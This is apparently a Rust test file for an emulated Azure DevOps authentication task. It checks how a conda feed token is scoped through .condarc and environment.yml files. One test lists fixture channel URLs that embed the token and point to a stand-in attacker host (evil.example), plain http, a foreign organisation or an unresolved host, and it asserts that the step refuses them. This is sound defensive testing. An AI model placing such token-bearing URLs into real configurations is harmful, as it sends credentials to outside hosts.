//! conda in later steps, as far as it can be tried: conda itself is not to be had here.

use ado_entra_auth_emulator::agent::{Job, Variable};
use ado_entra_auth_emulator::world::Package;
use ado_entra_auth_emulator::{Emulator, World};

use crate::support::{
    EVIL, Snapshot, assert_nothing_sent_to, assert_refused, finish, job, run, step, tool, variable, with_token, write,
};

const NAME: &str = "ARTIFACTS_CONDA_TOKEN";
const ALIAS: &str = "https://token:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/feed1/Conda/repo/";
const PROGRAM: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/end_to_end/conda.py");

/// A world with a package of conda's in its first feed.
pub fn with_package(mut world: World) -> World {
    world.organization_mut("contoso").unwrap().feeds[0].packages.push(Package::conda("contoso-hello", "1.0.0"));
    world
}

/// Whether the package is found in the channel that a file names, and what is said.
fn finds(job: &mut Job<'_>, file: &str) -> (bool, String) {
    let sources = job.sources();
    let outcome = job.run_script(&format!("rm -rf ~/.cache; rattler-python {PROGRAM} {file} contoso-hello"), &sources);
    let outcome = outcome.unwrap();
    (outcome.succeeded(), outcome.raw)
}

#[test]
fn the_variable_of_microsofts_task_serves_the_files_that_refer_to_it() {
    if tool("rattler-python").is_none() {
        return;
    }
    let emulator = Emulator::start(with_package(World::sample())).unwrap();
    let mut job = job(&emulator);
    write(&job, ".condarc", format!("channel_alias: {ALIAS}\nchannels:\n  - main\n"));
    job.set_variable(Variable::public(NAME, "mine"));
    let before = Snapshot::of(&job);
    // Nobody names the tool: the file does.
    let outcome = run(&emulator, &mut job, &step());
    assert!(outcome.warnings.is_empty(), "{:?}", outcome.warnings);
    assert!(outcome.log.contains("conda") && outcome.log.contains("in the tool's own variable"), "{}", outcome.log);
    emulator.clear_requests();
    let (found, said) = finds(&mut job, ".condarc");
    assert!(found && !with_token(&emulator.requests()).is_empty(), "{said}\n{:?}", emulator.requests());
    finish(&mut job);
    assert_eq!(variable(&job, NAME), "mine");
    let home = job.home().to_path_buf();
    before.without(&home).assert_same(&Snapshot::of(&job).without(&home), "after the job");
    emulator.clear_requests();
    assert!(!finds(&mut job, ".condarc").0 && with_token(&emulator.requests()).is_empty(), "after the job");
}

#[test]
fn a_feed_of_an_input_serves_too_and_nothing_is_set_where_nobody_refers_to_it() {
    let feed = "https://pkgs.dev.azure.com/contoso/_packaging/feed1/Conda/repo/main";
    for (input, content, set) in [(feed, "", true), ("", "channels:\n- conda-forge\n", false)] {
        let emulator = Emulator::start(with_package(World::sample())).unwrap();
        let mut job = job(&emulator);
        write(&job, "environment.yml", content);
        run(&emulator, &mut job, &step().input("feeds", input));
        assert_eq!(!variable(&job, NAME).is_empty(), set, "{input}");
    }
}

/// conda would put the token into whatever address refers to it.
#[test]
fn a_file_that_sends_the_token_elsewhere_stops_the_step() {
    for (path, address) in [
        (".condarc", "https://token:${ARTIFACTS_CONDA_TOKEN}@evil.example/Conda/repo/"),
        ("deep/environment.yml", "https://evil.example/t/$ARTIFACTS_CONDA_TOKEN/main"),
        (
            ".condarc",
            "http://token:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/contoso/_packaging/feed1/Conda/repo/main",
        ),
        (".condarc", "https://token:${ARTIFACTS_CONDA_TOKEN}@pkgs.dev.azure.com/fabrikam/_packaging/feed1/Conda/repo/"),
        (".condarc", "https://token:${ARTIFACTS_CONDA_TOKEN}@${HOST}/contoso/_packaging/feed1/Conda/repo/"),
    ] {
        let emulator = Emulator::start(with_package(World::sample())).unwrap();
        let mut job = job(&emulator);
        write(&job, "environment.yaml", format!("channels:\n- {ALIAS}main\n"));
        write(&job, path, format!("channels:\n- {address}\n"));
        assert_refused(&emulator, &mut job, &step(), &[path, NAME]);
        assert_nothing_sent_to(&emulator, EVIL);
    }
}
